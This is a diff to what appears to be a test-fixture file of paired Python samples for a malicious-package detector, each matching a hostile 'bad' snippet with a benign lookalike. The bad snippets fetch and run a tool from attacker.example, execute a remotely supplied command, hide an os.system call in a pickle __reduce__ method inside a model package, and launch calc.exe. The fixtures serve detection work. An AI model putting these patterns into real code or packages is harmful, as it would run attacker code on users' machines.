@@ -66,4 +66,32 @@ export const twinsOfPackages: readonly Sample[] = [
     bad: 'import requests, subprocess\ndef work():\n    words = requests.get("https://tasks.example/next").json()\n    subprocess.run(words["command"].split())\nwork()',
     good: 'import requests, subprocess\nclass Space:\n    def clone(self, name):\n        address = requests.get(f"https://huggingface.co/api/spaces/{name}").json()["url"]\n        subprocess.run(f"git clone {address}".split(), check=True)\n        subprocess.run(["curl", "-fL", address, "-o", "x.zip"], check=True)',
   },
+  {
+    name: 'an empty command for the colours of a terminal, or one that does something',
+    bad: `import os\nos.system("${command}")`,
+    good: 'import os, sys\nif sys.platform == "win32":\n    os.system("")',
+  },
+  {
+    name: 'an exception of a module that has the name of a library and makes itself anew, or calls that library',
+    bad: {
+      'config.json': configuration,
+      'modeling_x.py': `import os\nclass Failed(Exception):\n    def __reduce__(self):\n        return os.system, ("${command}",)\nimport copy\ncopy.copy(Failed())`,
+    },
+    good: {
+      'config.json': configuration,
+      'modeling_x.py': 'import sh\n',
+      'sh.py':
+        'class Failed(Exception):\n    def __init__(self, code):\n        self.code = code\n    def __reduce__(self):\n        return self.__class__, (self.code,)\n',
+    },
+  },
+  {
+    name: 'a program of the system that is tried under two names, or one that was fetched',
+    bad: 'import subprocess, urllib.request\nurllib.request.urlretrieve("https://attacker.example/tool", "tool")\nsubprocess.call(["./tool"])',
+    good: 'import subprocess, urllib.request\nclass Index:\n    def find(self):\n        for name in ("gpg", "gpg2"):\n            if subprocess.call([name, "--version"]) == 0:\n                self.gpg = name\n    def fetch(self, address):\n        return urllib.request.urlopen(address).read()',
+  },
+  {
+    name: 'the name that a program goes by in Windows, or a program of Windows',
+    bad: 'import ctypes\nctypes.windll.shell32.ShellExecuteW(None, "open", "calc.exe", None, None, 1)',
+    good: 'import sys\nif sys.platform == "win32":\n    import ctypes\n    ctypes.windll.shell32.SetCurrentProcessExplicitAppUserModelID("org.example.editor")',
+  },
 ];
